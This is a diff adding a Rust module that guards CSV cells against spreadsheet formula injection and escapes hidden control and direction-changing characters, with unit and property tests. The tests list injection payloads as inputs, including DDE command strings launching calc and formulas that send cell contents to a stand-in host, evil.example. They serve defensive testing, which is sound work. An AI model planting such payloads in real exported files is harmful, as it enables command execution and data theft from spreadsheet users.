@@ -1,0 +1,156 @@
+//! How a text stands in a cell of a CSV file that somebody will open with a spreadsheet, and how it is read back.
+//!
+//! A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@`, and a text from a log or an order file can begin so
+//! because a stranger wanted it to. Such a text gets a `'` in front; whoever reads the file again takes it off. Both
+//! directions stand here side by side, because only together are they right: every text comes back as it was.
+
+use std::borrow::Cow;
+use std::fmt::Write;
+
+/// A text as a cell: guarded where a spreadsheet would take it for a formula, and with characters that nobody should
+/// meet in a table spelled `\u{1b}`. [`plain`] undoes both.
+///
+/// An ordinary text is borrowed and unchanged, so that ids join byte for byte.
+pub fn guarded(text: &str) -> Cow<'_, str> {
+    let spelled = spelled(text);
+    if is_formula(&spelled) { format!("'{spelled}").into() } else { spelled }
+}
+
+/// A free text as a cell: as [`guarded`], and with a `'` in front of a sign that stands behind a `;`, a tab or a line end,
+/// for where a comma is the decimal sign, spreadsheets cut a double-clicked file at `;`, whatever its quotes say.
+pub fn guarded_within(text: &str) -> Cow<'_, str> {
+    let clean = guarded(text);
+    if !clean.contains(is_sign) {
+        return clean;
+    }
+    let mut safe = String::with_capacity(clean.len() + 4);
+    let mut at_start = false;
+    for c in clean.chars() {
+        if at_start && is_sign(c) {
+            safe.push('\'');
+        }
+        safe.push(c);
+        at_start = matches!(c, ';' | '\t' | '\r' | '\n') || at_start && is_skipped(c);
+    }
+    safe.into()
+}
+
+/// The text that [`guarded`] made a cell of.
+pub fn plain(cell: &str) -> Cow<'_, str> {
+    let text = cell.strip_prefix('\'').filter(|_| is_formula(cell)).unwrap_or(cell);
+    if !text.contains("\\u{") {
+        return text.into();
+    }
+    let mut plain = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.find("\\u{") {
+        let number = rest[at + 3..].split_once('}');
+        let found =
+            number.and_then(|(hex, behind)| Some((char::from_u32(u32::from_str_radix(hex, 16).ok()?)?, behind)));
+        let Some((c, behind)) = found else { break };
+        plain.push_str(&rest[..at]);
+        plain.push(c);
+        rest = behind;
+    }
+    plain.push_str(rest);
+    plain.into()
+}
+
+/// Whether a spreadsheet could take a cell for a formula: a sign behind nothing but what it skips, or a line end or tab
+/// in front, behind which it looks again.
+///
+/// A `'` in front never changes the answer, which is what lets [`plain`] know that it was put there.
+fn is_formula(text: &str) -> bool {
+    let begins = text.trim_start_matches(is_skipped);
+    let skipped = &text[..text.len() - begins.len()];
+    begins.starts_with(is_sign) || skipped.contains(['\t', '\r', '\n'])
+}
+
+/// Whether a formula can begin so; the full-width twins count, since East Asian versions read them alike.
+fn is_sign(c: char) -> bool {
+    matches!(c, '=' | '+' | '-' | '@' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}' | '\u{2212}')
+}
+
+/// What some program or other drops from the beginning of a cell before it looks at it.
+fn is_skipped(c: char) -> bool {
+    c.is_whitespace() || matches!(c, '\'' | '"' | '\u{200b}' | '\u{2060}' | '\u{feff}')
+}
+
+/// A text whose control characters (but for line ends and tabs, which a quoted field can hold), line separators and marks
+/// that turn the direction of writing are spelled out. So is a backslash that begins such a spelling in the text itself.
+fn spelled(text: &str) -> Cow<'_, str> {
+    let hidden = |c: char| {
+        c.is_control() && !matches!(c, '\n' | '\r' | '\t')
+            || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{61c}')
+    };
+    if !text.contains(hidden) && !text.contains("\\u{") {
+        return text.into();
+    }
+    let mut clean = String::with_capacity(text.len() + 8);
+    for (at, c) in text.char_indices() {
+        if hidden(c) || text[at..].starts_with("\\u{") {
+            // Writing to a String cannot fail.
+            let _ = write!(clean, "\\u{{{:x}}}", u32::from(c));
+        } else {
+            clean.push(c);
+        }
+    }
+    clean.into()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn known_formulas_are_guarded() {
+        for text in [
+            "=1+1",
+            "=cmd|' /C calc'!A0",
+            "+cmd|' /C notepad'!'A1'",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example?\"&A1,\"open\")",
+            "=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")",
+            "=WEBSERVICE(\"http://evil.example/\"&A1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "  =1",
+            "\u{a0}=1",
+            "\u{3000}=1",
+            "\"=1",
+            "'=1",
+            "\u{feff}=1",
+            "\u{ff1d}1",
+            "\u{ff0b}1",
+            "\u{ff0d}1",
+            "\u{ff20}A1",
+        ] {
+            assert_eq!(guarded(text), format!("'{text}"), "{text:?}");
+            assert_eq!(plain(&guarded(text)), text);
+        }
+        assert_eq!(guarded_within("a; =1;b\n@x;\"-1"), "a; '=1;b\n'@x;\"'-1");
+    }
+
+    #[test]
+    fn ordinary_texts_stay_as_they_are() {
+        for text in ["", "000123", "1e5", "#1001", "a=b", "'quoted'", "x\ny", "Größe 日本", "a\\b", "\\u12"] {
+            assert!(matches!(guarded(text), Cow::Borrowed(same) if same == text), "{text:?}");
+            assert_eq!(plain(text), text);
+        }
+        assert_eq!(guarded("a\x1b[2J\u{202e}\u{2028}"), "a\\u{1b}[2J\\u{202e}\\u{2028}");
+        assert_eq!(guarded("\\u{1b}"), "\\u{5c}u{1b}");
+        assert_eq!(plain("\\u{zz}\\u{41"), "\\u{zz}\\u{41");
+    }
+
+    proptest::proptest! {
+        /// Whatever a stranger writes comes back as it was, and no cell begins a formula.
+        #[test]
+        fn every_text_comes_back(text in "[=+@\"' \t\r\nau{}1b\\\\\u{1b}\u{202e}\u{ff1d}-]{0,9}") {
+            let cell = guarded(&text);
+            proptest::prop_assert_eq!(plain(&cell), text.as_str());
+            proptest::prop_assert!(cell.starts_with('\'') || !is_formula(&cell));
+        }
+    }
+}
